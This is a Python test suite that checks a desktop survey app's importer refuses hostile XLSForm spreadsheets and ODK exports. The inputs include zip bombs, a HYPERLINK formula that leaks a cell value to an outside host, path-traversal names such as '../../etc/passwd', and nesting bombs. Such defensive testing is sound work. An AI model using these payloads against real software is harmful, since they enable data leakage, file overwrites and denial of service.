"""Hostile XLSForms, form records and ODK exports: refused or handled with one clear
message, in bounded time and memory, writing nothing they should not."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest

from ca_desktop.forms.loader import all_forms
from ca_desktop.forms.local import form_record_id
from ca_desktop.reports import sheet_reader
from ca_desktop.reports.import_report import ImportRejected
from ca_desktop.reports.xlsform import reader
from ca_desktop.reports.xlsform.importer import XlsFormRejected, import_xlsform
from ca_desktop.reports.xlsform.odk_csv import import_odk_csv
from ca_desktop.services.app import CaDesktop
from tests.reports.xlsform.build import write_xlsform

HEADER = ("type", "name", "label", "relevant")


def test_zip_bomb_xlsx_is_refused_before_openpyxl(
    app: CaDesktop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sheet_reader, "MAX_UNCOMPRESSED", 8 * 2**20)
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            for _ in range(9):
                fh.write(b"\0" * (1 << 20))
    with pytest.raises(XlsFormRejected, match="unpacks to more than"):
        import_xlsform(app, path)
    assert app.list_records("form_version") == []


def test_huge_survey_sheet_is_refused(
    app: CaDesktop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reader, "MAX_SURVEY_ROWS", 50)
    rows = [HEADER] + [("text", f"q{i}", f"Q{i}", "") for i in range(60)]
    with pytest.raises(XlsFormRejected, match="survey has more than 50 rows"):
        import_xlsform(app, write_xlsform(tmp_path / "big.xlsx", rows))


def test_too_many_columns_is_refused(app: CaDesktop, tmp_path: Path) -> None:
    header = [*HEADER, *(f"x{i}" for i in range(reader.MAX_COLUMNS))]
    rows = [header, ["text", "a", "A", "", *(["v"] * reader.MAX_COLUMNS)]]
    with pytest.raises(XlsFormRejected, match="more than 100 columns"):
        import_xlsform(app, write_xlsform(tmp_path / "wide.xlsx", rows))


def test_formulas_are_reported_never_evaluated(app: CaDesktop, tmp_path: Path) -> None:
    rows = [
        HEADER,
        ("text", "a", '=HYPERLINK("http://x.example/?"&B2,"click")', ""),
        ("text", "b", "B", ""),
    ]
    path = write_xlsform(tmp_path / "f.xlsx", rows)
    result = import_xlsform(app, path, code="F-1")
    assert [(p.row, p.column, p.reason) for p in result.unsupported] == [
        (2, "C", "a formula; type the value itself")
    ]
    with pytest.raises(XlsFormRejected):
        import_xlsform(app, path, code="F-2", strict=True)


def test_deeply_nested_groups_are_refused(app: CaDesktop, tmp_path: Path) -> None:
    rows = [HEADER] + [("begin group", f"g{i}", f"G{i}", "") for i in range(200)]
    rows += [("text", "a", "A", "")] + [("end group", "", "", "")] * 200
    with pytest.raises(XlsFormRejected, match="nested more than 10 deep"):
        import_xlsform(app, write_xlsform(tmp_path / "deep.xlsx", rows))


def test_cyclic_relevance_is_reported_not_followed(app: CaDesktop, tmp_path: Path) -> None:
    rows = [HEADER, ("text", "a", "A", "${b} = 'x'"), ("text", "b", "B", "${a} = 'y'")]
    result = import_xlsform(app, write_xlsform(tmp_path / "cycle.xlsx", rows), code="CYC")
    assert [(p.row, p.column) for p in result.unsupported] == [(2, "D")]
    assert "comes later" in result.unsupported[0].reason


def test_expression_nesting_bomb_is_reported(app: CaDesktop, tmp_path: Path) -> None:
    deep = "(" * 900 + "1" + ")" * 900
    rows = [HEADER, ("text", "a", "A", ""), ("text", "b", "B", deep)]
    result = import_xlsform(app, write_xlsform(tmp_path / "nest.xlsx", rows), code="NEST")
    assert "nested more than 40 levels deep" in result.unsupported[0].reason


def test_ten_thousand_choices_are_bounded(app: CaDesktop, tmp_path: Path) -> None:
    survey = [HEADER, ("select_one many", "pick", "Pick one", ""), ("text", "b", "B", "")]
    choices = [("list_name", "name", "label")] + [
        ("many", f"c{i}", f"C {i}") for i in range(10_000)
    ]
    result = import_xlsform(
        app, write_xlsform(tmp_path / "many.xlsx", survey, choices), code="MANY"
    )
    assert any("more than 1000 choices" in p.reason for p in result.unsupported)
    [form] = [f for f in all_forms(app) if f.code == "MANY"]
    assert len(form.field("pick").choices) == 1000


def test_form_code_from_the_file_is_made_safe(app: CaDesktop, tmp_path: Path) -> None:
    settings = [("form_id", "form_title"), ("../../etc/passwd", "<b>x</b>")]
    path = write_xlsform(tmp_path / "p.xlsx", [HEADER, ("text", "a", "A", "")], (), settings)
    assert import_xlsform(app, path).code == "ETC-PASSWD"


@pytest.mark.parametrize(
    "definition",
    ["[" * 100_000 + "]" * 100_000, '{"code": NaN}', "not json", '{"format": 1, "code": "X"}'],
)
def test_hostile_form_record_is_skipped(app: CaDesktop, definition: str) -> None:
    # As if received in a bundle: the Forms page must still list the other forms.
    body = {"code": "EVIL", "version": "1.0", "definition": definition}
    app.save("form_version", body, form_record_id("EVIL"))
    codes = [f.code for f in all_forms(app)]
    assert "EVIL" not in codes and "CA-F01" in codes


def test_odk_zip_with_path_names_and_duplicate_ids(app: CaDesktop, tmp_path: Path) -> None:
    archive = tmp_path / "x.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr(
            "../../CA-F07.csv", "visit_date,meta-instanceID\n2024-01-01,uuid:1\n2024-01-02,uuid:1\n"
        )
    with pytest.raises(ImportRejected) as caught:
        import_odk_csv(app, archive, "CA-F07")
    reasons = [p.reason for p in caught.value.report.problems]
    assert "repeats" in reasons
    assert not (tmp_path.parent / "CA-F07.csv").exists()
    assert app.count("form_submission") == 0


def test_odk_zip_bomb_is_refused(app: CaDesktop, tmp_path: Path) -> None:
    archive = tmp_path / "bomb.zip"
    with (
        zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf,
        zf.open("a.csv", "w", force_zip64=True) as fh,
    ):
        fh.write(b"meta-instanceID\n")
        for _ in range(101):
            fh.write(b"a" * (1 << 20))
    with pytest.raises(ImportRejected) as caught:
        import_odk_csv(app, archive, "CA-F07")
    assert "too large" in caught.value.report.problems[0].reason
    json.dumps(caught.value.report.problems[0].reason)  # plain text
